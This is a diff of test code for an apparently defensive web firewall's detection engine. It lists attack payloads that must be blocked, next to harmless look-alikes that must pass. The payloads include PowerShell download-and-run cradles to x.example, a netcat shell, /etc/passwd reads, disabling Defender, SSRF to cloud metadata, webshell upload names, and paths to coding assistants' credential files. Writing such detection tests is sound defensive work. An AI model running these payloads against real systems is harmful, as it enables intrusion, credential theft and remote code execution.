@@ -466,3 +466,505 @@ CODE_EXECUTION_LOOK_ALIKES = [
 def test_code_execution_look_alikes_pass(engine: DetectionEngine, text: str) -> None:
     """Prose and code that share words or characters with the new classes pass everywhere."""
     passes_everywhere(engine, text)
+
+
+# ------------------------------------------------- 8. a class name as the whole value (Java)
+#: A value or a name that is only a class a polymorphic deserialiser would load.
+JAVA_TYPE_NAMES = [
+    "java.lang.reflect.Method",
+    "javax.management.MBeanServerInvocationHandler",
+    "sun.misc.Unsafe",
+    "java.net.URLClassLoader",
+    "org.springframework.context.support.FileSystemXmlApplicationContext",
+    "java.util.PriorityQueue",
+    " org.apache.commons.io.output.DeferredFileOutputStream ",
+    "java.io.FileOutputStream[]",
+    "org.omg.CORBA.portable.InputStream",
+    "com.sun.jndi.toolkit.url.GenericURLContext",
+]
+
+
+@pytest.mark.parametrize("payload", JAVA_TYPE_NAMES)
+def test_a_value_that_is_only_a_java_class_is_blocked(engine: DetectionEngine, payload: str) -> None:
+    """A Java platform or gadget library class name as a whole value is refused in every location."""
+    blocked_everywhere(engine, payload, "cmdi")
+
+
+def test_a_json_key_that_is_only_a_java_class_is_blocked(engine: DetectionEngine) -> None:
+    """Names are inputs too: a class name as a JSON key (XStream's and fastjson's shape) is refused."""
+    body = json.dumps({"java.util.PriorityQueue": {"comparator": "x"}})
+    request = make_request("/v1/notes", method="POST", body=body, content_type="application/json")
+    assert engine.evaluate(request).block_category == "cmdi"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "java.com",
+        "sun.example.com",
+        "clojure.org",
+        "jdk.java.net",
+        "The javadoc of java.io.File says it is immutable",
+        "at java.io.FileInputStream.open0(Native Method)",
+        "java.lang.OutOfMemoryError: Java heap space",
+        "com.example.orders.OrderService",
+        "org.apache",
+    ],
+)
+def test_java_names_with_more_around_them_pass(engine: DetectionEngine, text: str) -> None:
+    """Domains, application classes, and platform classes inside prose or a stack trace pass."""
+    passes_everywhere(engine, text)
+
+
+# ------------------------------------------------------ 9. cmd.exe's IF and FOR, every form
+WINDOWS_CONDITIONALS = [
+    "if exist C:\\inetpub\\web.config type C:\\inetpub\\web.config",
+    "IF /I NOT EXIST backup.zip (copy db.mdf backup.zip)",
+    "if not defined TOKEN set TOKEN=stolen",
+    "if errorlevel 1 goto retry",
+    "IF CMDEXTVERSION 2 call run.bat",
+    'if /i "%USERNAME%"=="administrator" net user x y /add',
+    "if [%2]==[] echo missing",
+    "if not (5 gtr 3) echo no",
+    "for /f \"usebackq delims=\" %% in (`whoami`) do echo %%",
+]
+
+
+@pytest.mark.parametrize("payload", WINDOWS_CONDITIONALS)
+def test_windows_conditionals_and_loops_are_blocked(engine: DetectionEngine, payload: str) -> None:
+    """cmd.exe's IF tests (a file, a variable, an exit code, a comparison) followed by a
+    command, and FOR over an unnamed %% variable, are refused wherever they are."""
+    for where, request in placements(payload).items():
+        if where in ("header", "cookie", "path") and ('"' in payload or "`" in payload or ";" in payload):
+            continue
+        verdict = engine.evaluate(request)
+        assert verdict.block_category == "cmdi", (payload, where, verdict.log_record())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "If not defined yet, set it in the settings page",
+        "if defined, call the handler",
+        "if (argc == 1) exit(1);",
+        "if (ptr == NULL) goto fail;",
+        "if x == 1 then print(x) end",
+        "if a == b: return None",
+        "If errorlevels rise, call us",
+        "Check if exist is spelled right",
+    ],
+)
+def test_if_in_prose_and_other_languages_passes(engine: DetectionEngine, text: str) -> None:
+    """Prose about what is defined and conditionals of C, Lua and Python pass."""
+    passes_everywhere(engine, text)
+
+
+# ------------------------- 10. server-side JavaScript, PHP objects, JSON in SQL, internal hosts
+@pytest.mark.parametrize(
+    ("payload", "category"),
+    [
+        ('{"run":"_$$ND_FUNC$$_function(){return 1}()"}', "cmdi"),  # 3036
+        ("new Function ('return this')()", "cmdi"),
+        ("[].constructor.constructor('return process')()", "cmdi"),
+        ("$3:constructor:constructor", "cmdi"),
+        ("global.process.mainModule.require('fs')", "cmdi"),
+        ("process['binding']('spawn_sync')", "cmdi"),
+        ("require.main.constructor._load('os')", "cmdi"),
+        ("while (!null) {}", "cmdi"),  # 3037
+        ("while(!!{}) x++", "cmdi"),
+        ("while (1);", "cmdi"),
+        ('O:6:"Logger":1:{s:4:"file";s:9:"/tmp/x.ph";}', "cmdi"),  # 3038
+        ('a:1:{i:0;C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}}', "cmdi"),
+        ("and '{\"role\":1}'::json @> '{}'", "sqli"),  # 1030
+        ("x' or '[3]' ? '3", "sqli"),
+        ("1 AND '{\"k\":[2]}' -> '$.k[0]' = 2", "sqli"),
+        ("localhost:6379/", "ssrf"),  # 6003
+        ("host.docker.internal/v1.41/containers/json", "ssrf"),
+        ("metadata.google.internal/computeMetadata/v1/", "ssrf"),
+    ],
+)
+def test_code_loops_objects_json_sql_and_internal_hosts_are_blocked(
+    engine: DetectionEngine, payload: str, category: str
+) -> None:
+    """Server-side JavaScript, constant infinite loops, PHP serialised objects, JSON
+    literals compared in SQL and scheme-less internal hosts are refused wherever they are."""
+    for where, request in placements(payload).items():
+        if where in ("header", "cookie", "path") and any(c in payload for c in "\";\n"):
+            continue
+        verdict = engine.evaluate(request)
+        assert verdict.block_category == category, (payload, where, verdict.log_record())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "while (true) { poll(); }",
+        "    n = next();\n} while (true);\nreturn n;",  # the end of a do-while
+        "while (!done) { step(); }",
+        "const fn = function () { return 1 }",
+        "Read process.env.PORT before listening",
+        "The constructor's constructor argument is optional",
+        "O:3 in the second half",
+        "SELECT data->>'name' FROM users WHERE data @> '{\"active\": true}'",
+        "localhost",
+        "Try localhost:8080 in your browser",
+        "https://localhost.example.com/",
+        "an image: data:image/png;base64,iVBORw0KGgo=",
+    ],
+)
+def test_look_alikes_of_code_objects_and_hosts_pass(engine: DetectionEngine, text: str) -> None:
+    """Ordinary loops, function expressions, prose about process.env, a query that
+    compares a column with JSON, and a host named in prose pass."""
+    passes_everywhere(engine, text)
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [" rO0ABXNyABFqYXZh", " java.io.File ", " localhost:2375/", "  while (1);", " /usr/bin/id -a"],
+)
+def test_whole_value_rules_hold_after_any_other_input(engine: DetectionEngine, payload: str) -> None:
+    """Rules anchored at a value's start still match when the value, with leading spaces,
+    follows other inputs in the one buffer the engine scans (a hyperscan database with two
+    such rules written with an unbounded leading ``[ \\t]*`` once missed them after
+    ``application/json``)."""
+    body = json.dumps({"kind": "application/json", "ref": "json", "value": payload})
+    request = make_request("/v1/notes", method="POST", body=body, content_type="application/json")
+    assert engine.evaluate(request).block_category is not None, payload
+
+
+# ------------- 11. SQL-only functions and catalogues, evasive markup, PHP and shell evasions
+EVASION_CLASSES = [
+    ("1 and sqlite_compileoption_used ('ENABLE_JSON1')", "sqli"),  # 1031
+    ("x' || utl_inaddr.get_host_name((select user from dual)) || '", "sqli"),
+    ("find_in_set('7', roles)", "sqli"),
+    ("jsonb_object_keys(profile)", "sqli"),
+    ("PG_CATALOG", "sqli"),  # 1032
+    ("`information_schema`", "sqli"),
+    ("2; INSERT /*x*/ INTO accounts (name, role) VALUES ('m', 'admin')", "sqli"),
+    ("9 procedure analyse(extractvalue(1,1),1)", "sqli"),
+    ("<s c r i p t>", "xss"),  # 2025
+    ("< svg: script src=//x>", "xss"),
+    ("abc' onfocusin=", "xss"),
+    ("[1].map.call`${eval}x`", "xss"),
+    ("passthru /* run */ ('id')", "cmdi"),  # 3039
+    ("assert#\n($_POST[1])", "cmdi"),
+    ("<? php echo 1;", "cmdi"),
+    ("<?xml :print 2;", "cmdi"),
+    ("${\"_SERVER\"}", "cmdi"),
+    ("['exec'][0]('id')", "cmdi"),
+    ("<(curl -s x.example)", "cmdi"),  # 3040
+    ("${SHELL} -c id", "cmdi"),
+    ("|$x curl x.example", "cmdi"),
+    (";printenv", "cmdi"),
+    ("&& netstat", "cmdi"),
+    ("\\whoami", "cmdi"),
+    ("~-2", "cmdi"),
+    ("{,uname,-a}", "cmdi"),
+]
+
+
+@pytest.mark.parametrize(("payload", "category"), EVASION_CLASSES)
+def test_sql_markup_php_and_shell_evasions_are_blocked(engine: DetectionEngine, payload: str, category: str) -> None:
+    """SQL-only functions, catalogue names, stacked INSERTs, split or namespaced tags,
+    PHP's and the shell's own syntax evasions are refused wherever they can be sent."""
+    for where, request in placements(payload).items():
+        if where in ("header", "cookie", "path") and any(c in payload for c in "\";\n"):
+            continue
+        verdict = engine.evaluate(request)
+        assert verdict.block_category == category, (payload, where, verdict.log_record())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Benchmarks are in docs/benchmarks.md",
+        "The schema_name field is required",
+        "see information_schema in the MySQL manual",
+        "Insert into the form; values are saved",
+        "I'm so mad >( but fine",
+        "x => (a) + b",
+        "total = $ { amount }",
+        "Price: $ {total}",
+        "file (the one I sent) is attached",
+        "<?xml version=\"1.0\"?><note>hi</note>",
+        "the online=true flag",
+        "a { display: none }",
+        "{a,b}",
+        "~ 5 km",
+        "; see above",
+        "use `set -e` in scripts",
+        "const t = `${user.name} joined`",
+    ],
+)
+def test_look_alikes_of_the_evasion_classes_pass(engine: DetectionEngine, text: str) -> None:
+    """Prose, templates, CSS, emoticons and XML that share characters with these classes pass."""
+    passes_everywhere(engine, text)
+
+
+# -------------------------------------- 12. a line break where none can be: path and names
+@pytest.mark.parametrize(
+    "target",
+    [
+        "/v1/files/report%0Ainfo.php",  # a segment (FastCGI's PATH_INFO split)
+        "/v1/items?id=7&%0d%0aX-Forwarded-For:%20127.0.0.1=1",  # a parameter name
+        "/v1/items?%0Dnext=2",
+    ],
+)
+def test_a_line_break_in_the_path_or_a_name_is_blocked(engine: DetectionEngine, target: str) -> None:
+    """A decoded CR or LF in the path or in a parameter name (header injection through a
+    name, a path split for a FastCGI backend) is refused at the default paranoia."""
+    verdict = engine.evaluate(make_request(target))
+    assert verdict.block_category == "crlf", verdict.log_record()
+    assert 12902 in {h.rule.id for h in verdict.hits}
+
+
+def test_a_line_break_in_a_value_is_not_a_name_one(engine: DetectionEngine) -> None:
+    """Multi-line text in a query value, a form field, a JSON string or a cookie value passes."""
+    text = "first line\nsecond line"
+    enc = quote(text, safe="")
+    for request in (
+        make_request(f"/v1/search?q={enc}"),
+        make_request("/v1/notes", method="POST", body=f"note={enc}", content_type="application/x-www-form-urlencoded"),
+        make_request("/v1/notes", method="POST", body=json.dumps({"note": text}), content_type="application/json"),
+    ):
+        assert engine.evaluate(request).block_category is None
+
+
+def test_a_line_break_seen_clean_in_a_value_is_still_checked_in_a_name() -> None:
+    """A value remembered as clean in a JSON body is still refused when it arrives as a
+    parameter name, where a line break never belongs."""
+    from bastion.stages.detection import DetectionConfig
+
+    fresh = DetectionEngine(DetectionConfig())
+    text = "a\nb"
+    body = make_request("/n", method="POST", body=json.dumps({"note": text}), content_type="application/json")
+    assert fresh.evaluate(body).block_category is None
+    assert fresh.evaluate(make_request(f"/n?{quote(text, safe='')}=1")).block_category == "crlf"
+
+
+# ----------------------------------------- 13. session fixation: a session cookie in a link
+@pytest.mark.parametrize(
+    "request_",
+    [
+        make_request("/v1/login?PHPSESSID=0123abcd", headers=[("Referer", "https://evil.example/")]),
+        make_request("/v1/login?laravel_session=eyJpdiI6"),
+        make_request("/v1/cart?ASPSESSIONIDQQGGQGPB=KLMNOPQR&item=3"),
+        make_request(
+            "/v1/login",
+            method="POST",
+            body="connect.sid=s%3Aabc&user=a",
+            content_type="application/x-www-form-urlencoded",
+        ),
+    ],
+    ids=["php", "laravel", "asp", "form"],
+)
+def test_a_session_cookie_sent_as_a_parameter_is_blocked(engine: DetectionEngine, request_: Request) -> None:
+    """A framework's session cookie named as a query or form parameter, with another site's
+    Referer or none, is refused: that is how a link fixes a victim's session."""
+    verdict = engine.evaluate(request_)
+    assert verdict.block_category == "crlf", verdict.log_record()
+    assert 12005 in {h.rule.id for h in verdict.hits}
+
+
+def test_session_cookies_as_cookies_and_own_links_pass(engine: DetectionEngine) -> None:
+    """The cookie itself, the site's own rewritten link (same-host Referer) and an API's
+    own session resource (Stripe's session_id) pass; the cookie seen clean first does not
+    let the parameter through."""
+    as_cookie = make_request("/v1/me", headers=[("Cookie", "PHPSESSID=0123abcd; theme=dark")])
+    own_link = make_request(
+        "/v1/orders;x?jsessionid=74B0CB41", headers=[("Referer", "https://api.example.com/v1/cart")]
+    )
+    stripe = make_request("/v1/checkout/done?session_id=cs_test_a1b2c3")
+    for request in (as_cookie, own_link, stripe):
+        assert engine.evaluate(request).block_category is None, request.raw_target
+    assert engine.evaluate(make_request("/v1/login?phpsessid=0123abcd")).block_category == "crlf"
+
+
+# ---------------------------------------- 14. an upload named as something the server runs
+def _upload(filename: str) -> Request:
+    body = (
+        "--b0undary\r\n"
+        f'Content-Disposition: form-data; name="file"; filename="{filename}"\r\n'
+        "Content-Type: application/octet-stream\r\n\r\n"
+        "GIF89a\r\n"
+        "--b0undary--\r\n"
+    )
+    return make_request("/v1/uploads", method="POST", body=body, content_type="multipart/form-data; boundary=b0undary")
+
+
+@pytest.mark.parametrize(
+    "filename",
+    ["avatar.pHp5", "shell.phtml...", "img.asp;.jpg", "x.jspx ", "uploads\\.htaccess", ".user.ini", "a.php%00.png",
+     "sess_9f8e7d6c5b4a3f2e"],
+)
+def test_an_upload_named_as_a_script_or_server_file_is_blocked(engine: DetectionEngine, filename: str) -> None:
+    """A multipart part's file name and an X-File-Name header that a web server would run
+    (PHP, JSP, ASP, with the tricks servers strip: trailing dots, ';', a NUL), a server's
+    own configuration file or a PHP session file are refused."""
+    verdict = engine.evaluate(_upload(filename))
+    assert verdict.block_category is not None, (filename, verdict.log_record())
+    assert 3041 in {h.rule.id for h in verdict.hits} or "%" in filename
+    header = engine.evaluate(make_request("/v1/uploads", method="PUT", headers=[("X-File-Name", filename)]))
+    assert header.block_category is not None, (filename, header.log_record())
+
+
+@pytest.mark.parametrize("filename", ["photo.jpg", "report.php.md", "cert.cer", "session_notes.txt", "php", "README"])
+def test_ordinary_upload_names_pass(engine: DetectionEngine, filename: str) -> None:
+    """Images, documents, certificates and names that only mention PHP pass as uploads."""
+    assert engine.evaluate(_upload(filename)).block_category is None
+    header = make_request("/v1/u", method="PUT", headers=[("X-Filename", filename)])
+    assert engine.evaluate(header).block_category is None
+
+
+def test_a_script_name_is_only_an_upload_name_in_an_upload() -> None:
+    """"index.php" in a JSON field is text (it passes), and remembering it clean there does
+    not let it through as an upload's name."""
+    from bastion.stages.detection import DetectionConfig
+
+    fresh = DetectionEngine(DetectionConfig())
+    text = make_request("/v1/n", method="POST", body=json.dumps({"page": "index.php"}), content_type="application/json")
+    assert fresh.evaluate(text).block_category is None
+    assert fresh.evaluate(make_request("/v1/u", method="PUT", headers=[("X-Filename", "index.php")])).block_category
+
+
+# ------------------------- 15. call probes, and paths into coding assistants' configuration
+@pytest.mark.parametrize(
+    ("payload", "category"),
+    [
+        ("pg_read_file (", "sqli"),  # 1033
+        ("Floor(", "sqli"),
+        (".claude/settings.local.json", "path_traversal"),  # 4010
+        ("srv/app/.cursor/mcp.json", "path_traversal"),
+        ("~/.codex/auth.json", "path_traversal"),
+        (".aiignore", "path_traversal"),
+    ],
+)
+def test_call_probes_and_assistant_configuration_paths_are_blocked(
+    engine: DetectionEngine, payload: str, category: str
+) -> None:
+    """A value that is only a function name and "(", and a path into a coding assistant's
+    configuration (API keys, MCP tokens), are refused in every location."""
+    blocked_everywhere(engine, payload, category)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "See the note (attached)",
+        "f(x) = x + 1",
+        "Add your rules to .cursor/rules in the repo root, then restart",
+        "I keep my prompts in ~/.claude because it is handy",
+        "https://docs.example.com/.well-known/openid-configuration",
+        ".gitignore",
+    ],
+)
+def test_calls_in_prose_and_tool_names_in_sentences_pass(engine: DetectionEngine, text: str) -> None:
+    """Parentheses with something in them, and a sentence naming a tool's directory, pass."""
+    passes_everywhere(engine, text)
+
+
+# ------------------------------------------- 16. script that reaches globals without a name
+@pytest.mark.parametrize(
+    "payload",
+    [
+        'window["con"+"firm"](1)',
+        "globalThis /*x*/ ['document']",
+        "(window)['location']='//x.example'",
+        "(![]+[])[+!+[]]",
+        "background:url( 'javascript:run()')",
+        "<?import implementation=\"#default#time2\">",
+        "document.body.appendChild(x)",
+        "<v:vmlframe src=\"x.example/a.fml\"/>",
+    ],
+)
+def test_script_reaching_browser_globals_is_blocked(engine: DetectionEngine, payload: str) -> None:
+    """A global's member taken by a string, JSFuck, CSS url(javascript:), IE's import and
+    DOM writes are refused wherever they can be sent."""
+    for where, request in placements(payload).items():
+        if where in ("header", "cookie", "path") and any(c in payload for c in "\";\n"):
+            continue
+        verdict = engine.evaluate(request)
+        assert verdict.block_category == "xss", (payload, where, verdict.log_record())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Open a new window [see the screenshot]",
+        "top ['a', 'b'] results",
+        "return self['name']",
+        "+[] is an empty list in my notes",
+        "background: url('/img/bg.png')",
+        "the document (PDF) is attached",
+    ],
+)
+def test_prose_about_windows_and_documents_passes(engine: DetectionEngine, text: str) -> None:
+    """Windows, documents, lists and CSS background images in text pass."""
+    passes_everywhere(engine, text)
+
+
+# ------------------------------------------------- 17. PowerShell, and more shell spellings
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "Invoke-WebRequest -Uri https://x.example/p.ps1 -OutFile p.ps1",
+        "iex (New-Object Net.WebClient).DownloadString('https://x.example/a')",
+        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File run.ps1",
+        "powershell -enc SQBFAFgA",
+        "Start-Process 'C:\\Temp\\payload.exe'",
+        "Set-MpPreference -DisableRealtimeMonitoring $true",
+        "[System.Convert]::FromBase64String($b)",
+        "alias -g ls='rm -rf'",
+        "x; bash$IFSx -c id",
+        "cat /[e//]tc/[p//]asswd",
+        "/usr/[a-z]in/nc -e sh",
+        "IF EXIST \"C:\\backup.zip\" del C:\\backup.zip",
+        "if ERRORLEVEL 2 if not errorlevel 3 goto x",
+    ],
+)
+def test_powershell_and_more_shell_spellings_are_blocked(engine: DetectionEngine, payload: str) -> None:
+    """PowerShell downloads, execution and defence changes, aliases with options, a shell
+    named with an empty variable glued to it, bracket globs with slashes or ranges and
+    more cmd.exe IF forms are refused wherever they can be sent."""
+    for where, request in placements(payload).items():
+        if where in ("header", "cookie", "path") and any(c in payload for c in "\";\n"):
+            continue
+        verdict = engine.evaluate(request)
+        assert verdict.block_category == "cmdi", (payload, where, verdict.log_record())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Use Invoke-WebRequest to download the installer",
+        "Start-Process is the cmdlet you want",
+        "Open PowerShell and run the script",
+        "items[a-z] match letters",
+        "/api/users[id]/roles",
+        "an alias is a name",
+    ],
+)
+def test_prose_about_powershell_and_brackets_passes(engine: DetectionEngine, text: str) -> None:
+    """Sentences about PowerShell cmdlets, character classes and bracketed route names pass."""
+    passes_everywhere(engine, text)
+
+
+# ------------------------------------------------------ 18. remote includes, by their shape
+@pytest.mark.parametrize(
+    "payload",
+    ["https://x.example/shell.txt?", "ftps?", "http://93.184.216.34/k.php", "http://[2a00:1450:4001::7]/a.jsp",
+     "ftp://93.184.216.34"],
+)
+def test_remote_include_shapes_are_blocked(engine: DetectionEngine, payload: str) -> None:
+    """A URL ending in '?' as a whole value, a script on a bare IP address and an FTP URL
+    to an IP address are refused wherever they are."""
+    blocked_everywhere(engine, payload, "rfi")
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["Is it http?", "https://shop.example/cart?item=3", "http://93.184.216.34/status", "see https://x.example/"],
+)
+def test_ordinary_urls_pass(engine: DetectionEngine, text: str) -> None:
+    """Questions, URLs with a query, and a page (not a script) on an IP address pass."""
+    passes_everywhere(engine, text)
